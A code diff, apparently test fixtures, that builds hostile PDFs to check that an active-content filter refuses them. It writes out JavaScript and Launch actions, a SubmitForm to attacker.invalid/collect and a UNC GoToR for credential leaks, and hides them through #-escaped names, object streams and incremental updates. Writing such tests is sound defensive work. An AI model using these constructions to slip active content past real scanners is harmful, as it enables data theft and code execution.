@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import io
 import os
+import re
 import struct
 import zipfile
 import zlib
+from collections.abc import Callable
 
 from PIL import Image, ImageDraw, ImageFilter
 from pypdf import PdfReader, PdfWriter
@@ -233,3 +235,213 @@ def image_variant(label: str) -> bytes:
     out = io.BytesIO()
     Image.open(io.BytesIO(document_photo())).save(out, fmt, **options)
     return out.getvalue()
+
+
+# --- PDFs written by hand for the active-content rule (mtb/materials/pdfactive.py) ----------------------
+# Objects: 1 the catalog, 2 the page tree, 3 the page, 4 the action under test; 5.. what holds it.
+
+A4_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
+GOTO = b"<< /S /GoTo /D [3 0 R /Fit] >>"
+
+
+def escaped(name: bytes) -> bytes:
+    """`/JavaScript` as `/#4aavaScript`: the same name to a PDF reader, other bytes on disk."""
+    return b"/#%02x%s" % (name[1], name[2:])
+
+
+def object_stream_pdf(*objects: bytes) -> bytes:
+    """A PDF (1.5) whose objects, numbered from 1 (the catalog), all sit in one compressed object stream,
+    found through a cross-reference stream: none of their bytes show in the file."""
+    count = len(objects)
+    stream_number, xref_number = count + 1, count + 2
+    heads, data = [], b""
+    for number, body in enumerate(objects, start=1):
+        heads.append(b"%d %d" % (number, len(data)))
+        data += body + b"\n"
+    head = b" ".join(heads) + b"\n"
+    packed = zlib.compress(head + data)
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    stream_offset = len(out)
+    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
+            % (stream_number, count, len(head), len(packed)) + packed + b"\nendstream\nendobj\n")
+    xref_offset = len(out)
+    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
+    rows += [b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big") for index in range(count)]
+    rows += [b"\x01" + stream_offset.to_bytes(4, "big") + bytes(2), b"\x01" + xref_offset.to_bytes(4, "big") + bytes(2)]
+    table = b"".join(rows)
+    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
+            % (xref_number, xref_number + 1, len(table)) + table + b"\nendstream\nendobj\n")
+    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
+    return bytes(out)
+
+
+def incremental_update(base: bytes, *objects: tuple[int, bytes]) -> bytes:
+    """`base` (with a classic cross-reference table) plus an update that adds or replaces objects."""
+    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
+    size = int(re.findall(rb"/Size (\d+)", base)[-1])
+    out = bytearray(base)
+    offsets = {}
+    for number, body in objects:
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, offsets[n]) for n in sorted(offsets))
+    size = max(size, max(offsets) + 1)
+    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, xref)
+    return bytes(out)
+
+
+def _catalog(extra: bytes = b"") -> bytes:
+    return b"<< /Type /Catalog /Pages 2 0 R %s >>" % extra
+
+
+PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+
+# Where an action can sit: (catalog entries, page entries, further objects from 5 on).
+ACTION_PLACES: dict[str, tuple[bytes, bytes, tuple[bytes, ...]]] = {
+    "open-action": (b"/OpenAction 4 0 R", b"", ()),
+    "document-aa": (b"/AA << /WC 4 0 R >>", b"", ()),
+    "page-aa": (b"", b"/AA << /O 4 0 R >>", ()),
+    "link": (b"", b"/Annots [5 0 R]", (b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 4 0 R >>",)),
+    "link-pa": (b"", b"/Annots [5 0 R]", (b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /PA 4 0 R >>",)),
+    "annotation-aa": (b"", b"/Annots [5 0 R]",
+                      (b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Dest [3 0 R /Fit] /AA << /E 4 0 R >> >>",)),
+    "outline": (b"/Outlines 5 0 R", b"", (b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
+                                          b"<< /Title (a) /Parent 5 0 R /A 4 0 R >>")),
+    "outline-nested": (b"/Outlines 5 0 R", b"", (
+        b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 2 >>",
+        b"<< /Title (a) /Parent 5 0 R /Dest [3 0 R /Fit] /First 7 0 R /Last 7 0 R /Count 1 >>",
+        b"<< /Title (b) /Parent 6 0 R /Prev 7 0 R /A 4 0 R >>")),
+    "form-field-kid": (b"/AcroForm << /Fields [5 0 R] >>", b"", (
+        b"<< /T (f) /Kids [6 0 R] >>",
+        b"<< /Parent 5 0 R /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /AA << /K 4 0 R >> >>")),
+    "next-array": (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> 5 0 R] >>", b"",
+                   (b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",)),
+    "indirect-containers": (b"/AA 5 0 R", b"/Annots 6 0 R", (
+        b"<< /DS 8 0 R >>", b"[7 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 8 0 R >>",
+        b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>")),
+}
+
+# Every action type of PDF 2.0 (and one no reader knows), each with what it needs to do its harm.
+ACTIONS: dict[str, bytes] = {
+    "JavaScript": b"<< /S /JavaScript /JS (app.alert(1);) >>",
+    "Launch": b"<< /S /Launch /F (cmd.exe) >>",
+    "GoToR-unc": b"<< /S /GoToR /F (\\\\\\\\attacker.invalid\\\\share\\\\x.pdf) /D [0 /Fit] >>",
+    "GoToR-filespec": b"<< /S /GoToR /F << /Type /Filespec /FS /URL /F (smb://attacker.invalid/x.pdf) >> /D [0 /Fit] >>",
+    "GoToE": b"<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>",
+    "GoToDp": b"<< /S /GoToDp /Dp 3 0 R >>",
+    "URI": b"<< /S /URI /URI (https://attacker.invalid/) >>",
+    "SubmitForm": b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.invalid/collect) >> /Flags 4 >>",
+    "ResetForm": b"<< /S /ResetForm >>",
+    "ImportData": b"<< /S /ImportData /F (data.fdf) >>",
+    "Named": b"<< /S /Named /N /Print >>",
+    "Thread": b"<< /S /Thread /D 0 >>",
+    "Sound": b"<< /S /Sound /Sound 3 0 R >>",
+    "Movie": b"<< /S /Movie /T (m) >>",
+    "Hide": b"<< /S /Hide /T (f) >>",
+    "SetOCGState": b"<< /S /SetOCGState /State [/OFF] >>",
+    "Rendition": b"<< /S /Rendition /OP 0 /JS (app.alert(1);) >>",
+    "Trans": b"<< /S /Trans /Trans << /S /Dissolve >> >>",
+    "GoTo3DView": b"<< /S /GoTo3DView /TA 3 0 R /V 0 >>",
+    "RichMediaExecute": b"<< /S /RichMediaExecute /TA 3 0 R /CMD << /C (x) >> >>",
+    "unknown-type": b"<< /S /Exfiltrate /F (x) >>",
+    "script-without-type": b"<< /JS (app.alert(1);) >>",
+}
+
+
+def pdf_with_action(place: str, action: bytes, *, spelling: str = "plain") -> bytes:
+    """A one-page PDF with `action` at `place`. Spelling: `plain`; `escaped` (the action type's name
+    written with a #-escape: /#4aavaScript); `object-stream` (every object compressed, so no name shows
+    in the file); `update` (the action added by an incremental update that replaces the catalog)."""
+    catalog_extra, page_extra, further = ACTION_PLACES[place]
+    if spelling == "escaped":
+        action = re.sub(rb"/S /(\w+)", lambda m: b"/S " + escaped(b"/" + m.group(1)), action)
+        action = action.replace(b"/JS ", escaped(b"/JS") + b" ")
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>" % page_extra
+    objects = (_catalog(catalog_extra), PAGES, page, action, *further)
+    if spelling == "object-stream":
+        return object_stream_pdf(*objects)
+    if spelling == "update":
+        base = raw_pdf(_catalog(), PAGES, A4_PAGE)
+        return incremental_update(base, (1, _catalog(catalog_extra)), (3, page),
+                                  *((n, body) for n, body in enumerate((action, *further), start=4)))
+    return raw_pdf(*objects)
+
+
+def pdf_with_objects(catalog_extra: bytes = b"", page_extra: bytes = b"", *further: bytes,
+                     compressed: bool = False) -> bytes:
+    """A one-page PDF with extra catalog and page entries and objects numbered from 4."""
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>" % page_extra
+    objects = (_catalog(catalog_extra), PAGES, page, *further)
+    return object_stream_pdf(*objects) if compressed else raw_pdf(*objects)
+
+
+XFA_STREAM = (b"<< /Length 58 >>\nstream\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"></xdp:xdp>\n"
+              b"endstream")
+SCRIPT = b"<< /S /JavaScript /JS (app.alert(1);) >>"
+ESCAPED_SCRIPT = b"<< /S /J#61vaScript /J#53 (app.alert(1);) >>"
+
+# The probe's variants (issue 16, item 4) and more: each must be refused as pdf_active_content.
+HOSTILE_PDFS: dict[str, Callable[[], bytes]] = {
+    "outline-item-script": lambda: pdf_with_action("outline", SCRIPT),
+    "outline-nested-escaped-script": lambda: pdf_with_action("outline-nested", SCRIPT, spelling="escaped"),
+    "escaped-launch-link": lambda: pdf_with_action("link", b"<< /S /L#61unch /F (calc.exe) >>"),
+    "names-templates": lambda: pdf_with_objects(b"/Names << /Templates 4 0 R >>", b"", b"<< /Names [(t) 3 0 R] >>"),
+    "names-escaped-javascript": lambda: pdf_with_objects(
+        b"/Names << /J#61vaScript 4 0 R >>", b"", b"<< /Names [(x) 5 0 R] >>", ESCAPED_SCRIPT),
+    "names-javascript-tree-kids": lambda: pdf_with_objects(
+        b"/Names << /Dests 4 0 R /JavaScript << /Kids [5 0 R] >> >>", b"", b"<< /Names [(p) [3 0 R /Fit]] >>",
+        b"<< /Limits [(a) (z)] /Names [(x) 6 0 R] >>", ESCAPED_SCRIPT),
+    "names-embedded-files-in-object-stream": lambda: pdf_with_objects(
+        b"/Names << /EmbeddedFiles 4 0 R >>", b"", b"<< /Names [] >>", compressed=True),
+    "xfa-form": lambda: pdf_with_objects(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", XFA_STREAM),
+    "xfa-form-array": lambda: pdf_with_objects(b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>", b"", XFA_STREAM),
+    "xfa-form-escaped": lambda: pdf_with_objects(b"/AcroForm << /Fields [] /#58FA 4 0 R >>", b"", XFA_STREAM),
+    "xfa-form-in-object-stream": lambda: pdf_with_objects(b"/AcroForm 4 0 R", b"",
+                                                          b"<< /Fields [] /XFA [(template) (x)] >>", compressed=True),
+    "xfa-needs-rendering": lambda: pdf_with_objects(b"/NeedsRendering true"),
+    "gotor-unc-path": lambda: pdf_with_action("link", ACTIONS["GoToR-unc"]),
+    "gotor-unc-escaped": lambda: pdf_with_action("link", ACTIONS["GoToR-unc"], spelling="escaped"),
+    "submitform-url": lambda: pdf_with_action("form-field-kid", ACTIONS["SubmitForm"]),
+    "submitform-widget-a": lambda: pdf_with_objects(
+        b"/AcroForm << /Fields [4 0 R] >>", b"/Annots [4 0 R]",
+        b"<< /FT /Btn /T (s) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R /A 5 0 R >>",
+        ACTIONS["SubmitForm"]),
+    "uri-link": lambda: pdf_with_action("link", ACTIONS["URI"]),
+    "named-print-open-action": lambda: pdf_with_action("open-action", ACTIONS["Named"]),
+    "next-array-then-launch": lambda: pdf_with_action("next-array", ACTIONS["Launch"]),
+    "indirect-containers-script": lambda: pdf_with_action("indirect-containers", SCRIPT, spelling="escaped"),
+    "document-aa-script-escaped": lambda: pdf_with_action("document-aa", SCRIPT, spelling="escaped"),
+    "page-close-importdata": lambda: pdf_with_action("page-aa", ACTIONS["ImportData"]),
+    "annotation-aa-script": lambda: pdf_with_action("annotation-aa", SCRIPT, spelling="escaped"),
+    "object-stream-open-script": lambda: pdf_with_action("open-action", SCRIPT, spelling="object-stream"),
+    "object-stream-unreferenced-script": lambda: pdf_with_objects(b"", b"", SCRIPT, compressed=True),
+    "incremental-update-open-script": lambda: pdf_with_action("open-action", SCRIPT, spelling="update"),
+    "incremental-update-unreferenced-script": lambda: incremental_update(
+        raw_pdf(_catalog(), PAGES, A4_PAGE), (4, ESCAPED_SCRIPT)),
+    "script-under-unknown-key": lambda: pdf_with_objects(b"/Foo << /S /J#61vaScript /JS (x) >>"),
+    "action-typed-uri-under-unknown-key": lambda: pdf_with_objects(
+        b"", b"/Bar << /Type /Action /S /U#52I /URI (https://attacker.invalid/) >>"),
+    "screen-rendition": lambda: pdf_with_objects(
+        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A 5 0 R >>",
+        ACTIONS["Rendition"]),
+    "sound-annotation": lambda: pdf_with_objects(
+        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] /Sound 3 0 R >>"),
+    "richmedia-escaped-annotation": lambda: pdf_with_objects(
+        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /RichM#65dia /Rect [0 0 9 9] >>"),
+    "gotoe-open-action": lambda: pdf_with_action("open-action", ACTIONS["GoToE"], spelling="escaped"),
+    "associated-file-escaped": lambda: pdf_with_objects(b"/#41F [4 0 R]", b"", b"<< /Type /Filespec /F (x.exe) >>"),
+    "portfolio-collection": lambda: pdf_with_objects(b"/Collection << /Type /Collection >>"),
+}
+
+# Harmless structures that use the same names: stored, not refused.
+HARMLESS_PDFS: dict[str, Callable[[], bytes]] = {
+    "goto-link-outline-named-dests": lambda: pdf_with_objects(
+        b"/Outlines 4 0 R /Names << /Dests 6 0 R >> /StructTreeRoot << /K << /S /Link >> >>",
+        b"/Annots [7 0 R] /Group << /S /Transparency /CS /DeviceRGB >>",
+        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
+        b"<< /Title (p1) /Parent 4 0 R /A << /S /GoTo /D (p1) >> >>",
+        b"<< /Names [(p1) [3 0 R /Fit]] >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /BS << /S /D >> /A << /S /GoTo /D [3 0 R /Fit] >> >>"),
+    "goto-everywhere-in-object-stream": lambda: pdf_with_action("next-array", GOTO, spelling="object-stream"),
+}
